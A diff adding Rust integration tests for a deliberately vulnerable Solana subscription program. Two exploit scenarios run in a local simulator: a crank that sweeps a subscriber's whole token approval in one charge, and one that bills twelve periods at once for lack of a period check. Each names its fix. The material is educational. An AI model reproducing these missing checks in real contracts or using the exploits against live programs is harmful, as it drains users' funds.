@@ -0,0 +1,161 @@
+// Integration tests for SUBS-VULNERABLE program
+//
+// WARNING: These tests demonstrate intentional security vulnerabilities for educational purposes.
+// These exploits show what can happen when proper security checks are missing.
+//
+// HOW TO RUN THESE TESTS:
+// From the project root directory:
+//   cd programs/subs/subs-vulnerable
+//   cargo test-sbf
+//
+// Or to run a specific test:
+//   cargo test-sbf -- test_name
+//
+// Or with output logging:
+//   cargo test-sbf -- --nocapture
+
+mod utils;
+
+use litesvm::types::TransactionResult;
+use solana_sdk::signature::Signer;
+use soteria_test_kit::{run_exploit, ExploitInfo, ExploitScenario, Severity};
+use utils::*;
+
+const ALLOWANCE: u64 = PLAN_AMOUNT * APPROVED_PERIODS as u64;
+
+// EXPLOIT: V001 - Charge amount chosen by the crank
+// Demonstrates: One charge sweeps the subscriber's entire approval
+struct ArbitraryChargeAmount;
+
+impl ExploitScenario for ArbitraryChargeAmount {
+    type State = SubsScenario;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V001",
+            title: "Allowance Sweep - Crank-Chosen Charge Amount",
+            severity: Severity::Critical,
+            lesson: "Take the charge amount from the plan, never from the caller",
+        }
+    }
+
+    fn setup(&self) -> SubsScenario {
+        println!("This test demonstrates how letting a permissionless crank pick the amount");
+        println!("turns a year of pre-approved payments into a single withdrawal.");
+        println!();
+
+        let scenario = setup_subs_scenario();
+        println!("[Setup] Plan: 10 tokens every 30 days; subscriber approved {} periods", APPROVED_PERIODS);
+        scenario
+    }
+
+    fn exploit(&self, scenario: &mut SubsScenario) -> TransactionResult {
+        println!();
+        println!("[EXPLOIT] Crank charges the full {} token approval in one call", ALLOWANCE / ONE_TOKEN);
+        println!("[EXPLOIT] In secure version, the amount is always plan.amount");
+        let ix = scenario.charge_ix(ALLOWANCE);
+        send_ix(&mut scenario.svm, ix, &scenario.cranker)
+    }
+
+    fn assert_impact(&self, scenario: &mut SubsScenario) -> u64 {
+        println!();
+        println!("[RESULT] Allowance sweep: SUCCESS");
+
+        assert_eq!(scenario.merchant_balance(), ALLOWANCE);
+        assert_eq!(scenario.subscriber_balance(), SUBSCRIBER_BALANCE - ALLOWANCE);
+        assert_eq!(get_charges(&scenario.svm, &scenario.subscription), 1);
+        println!("[IMPACT] Subscriber paid 12 months up front after one charge");
+        println!("[IMPACT] Cancelling now recovers nothing - the approval is spent");
+
+        // Everything beyond the one period actually owed
+        ALLOWANCE - PLAN_AMOUNT
+    }
+}
+
+#[test]
+fn test_exploit_arbitrary_charge_amount() {
+    run_exploit(&ArbitraryChargeAmount);
+}
+
+// EXPLOIT: V002 - No once-per-period limit
+// Demonstrates: The correct amount charged twelve times in a row
+struct ChargeBeforePeriod;
+
+impl ExploitScenario for ChargeBeforePeriod {
+    type State = SubsScenario;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V002",
+            title: "Back-to-Back Charges - Missing Period Check",
+            severity: Severity::High,
+            lesson: "Charge at most once per period: require!(now >= next_charge_ts)",
+        }
+    }
+
+    fn setup(&self) -> SubsScenario {
+        println!("This test demonstrates how a crank that ignores next_charge_ts can bill");
+        println!("a whole year on the day the subscriber signs up.");
+        println!();
+
+        let scenario = setup_subs_scenario();
+        println!("[Setup] Plan: 10 tokens every 30 days; subscriber approved {} periods", APPROVED_PERIODS);
+        scenario
+    }
+
+    fn exploit(&self, scenario: &mut SubsScenario) -> TransactionResult {
+        println!();
+        println!("[EXPLOIT] Crank charges the plan amount {} times without waiting", APPROVED_PERIODS);
+        println!("[EXPLOIT] In secure version, the second charge should FAIL with ChargeTooEarly");
+        for _ in 1..APPROVED_PERIODS {
+            let ix = scenario.charge_ix(PLAN_AMOUNT);
+            let result = send_ix(&mut scenario.svm, ix, &scenario.cranker);
+            assert!(result.is_ok(), "Vulnerable version charges at any time: {:?}", result.err());
+        }
+
+        let ix = scenario.charge_ix(PLAN_AMOUNT);
+        send_ix(&mut scenario.svm, ix, &scenario.cranker)
+    }
+
+    fn assert_impact(&self, scenario: &mut SubsScenario) -> u64 {
+        println!();
+        println!("[RESULT] Charges taken on day one: {}", get_charges(&scenario.svm, &scenario.subscription));
+        assert_eq!(get_charges(&scenario.svm, &scenario.subscription), APPROVED_PERIODS);
+        assert_eq!(scenario.merchant_balance(), ALLOWANCE);
+        println!("[IMPACT] Subscriber paid {} tokens for one month of service", ALLOWANCE / ONE_TOKEN);
+
+        ALLOWANCE - PLAN_AMOUNT
+    }
+}
+
+#[test]
+fn test_exploit_charge_before_period() {
+    run_exploit(&ChargeBeforePeriod);
+}
+
+#[test]
+fn test_all_basic_operations_work() {
+    // Sanity check: the happy path still works in the vulnerable version
+    println!("\n[TEST START] test_all_basic_operations_work - Normal billing lifecycle");
+
+    let mut scenario = setup_subs_scenario();
+    let account = token_account(&scenario.svm, &scenario.subscriber_ata);
+    assert_eq!(account.delegated_amount, PLAN_AMOUNT * APPROVED_PERIODS as u64);
+    println!("[Success] Subscribed with {} periods approved", APPROVED_PERIODS);
+
+    let ix = scenario.charge_ix(PLAN_AMOUNT);
+    send_ix(&mut scenario.svm, ix, &scenario.cranker).expect("Charge should succeed");
+    assert_eq!(scenario.merchant_balance(), PLAN_AMOUNT);
+    println!("[Success] Crank charged one period");
+
+    let ix = scenario.charge_ix(PLAN_AMOUNT * (APPROVED_PERIODS as u64 + 1));
+    assert!(send_ix(&mut scenario.svm, ix, &scenario.cranker).is_err(), "Charge above approval should fail");
+    println!("[Success] Charges above the remaining approval still fail");
+
+    let ix = build_cancel_ix(&scenario.subscriber.pubkey(), &scenario.plan, &scenario.mint);
+    send_ix(&mut scenario.svm, ix, &scenario.subscriber).expect("Cancel should succeed");
+    assert_eq!(token_account(&scenario.svm, &scenario.subscriber_ata).delegated_amount, 0);
+    println!("[Success] Subscriber cancelled and revoked the approval");
+
+    println!("[TEST END] test_all_basic_operations_work");
+}